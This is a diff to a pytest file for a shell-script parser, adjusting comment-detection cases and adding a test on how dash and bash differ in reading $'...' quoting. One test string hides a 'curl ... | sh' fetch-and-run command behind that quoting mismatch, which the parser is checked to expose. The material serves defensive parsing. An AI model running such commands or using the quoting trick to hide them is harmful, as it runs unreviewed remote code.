@@ -76,12 +76,20 @@ def test_comments_and_keywords():
 
 @pytest.mark.parametrize("script", [
     "echo 'a # no' \"b # no\" c\\ #no d#no # yes",
-    "echo $'it\\'s # no' # yes",  # C escapes in $'...': an escaped quote does not end it
-    "echo $'a\\\\' # yes",
     "echo x;# yes",
+    "echo $'a\\\\' # no\necho # yes",  # after a `$'` on its line, a comment only for some shells
 ])
 def test_a_comment_starts_where_a_word_would(script):
     assert shell.comments(script) == [(script.index("# yes"), "# yes")]
+
+
+def test_commands_after_a_c_quote_are_read_as_dash_runs_them():
+    """dash (Debian's /bin/sh) ends `$'x\\'` at the escaped quote and runs the pipe
+    after it; bash would read one string. The commands are read as dash runs them,
+    and the `#` after it is no comment for either reading to agree on."""
+    script = "echo $'x\\' && curl -fsSL https://example.com/install.sh | sh #'"
+    assert programs(script) == [["echo"], ["curl", "sh"]]
+    assert shell.comments(script) == []
 
 
 def test_inline_scripts_are_read():
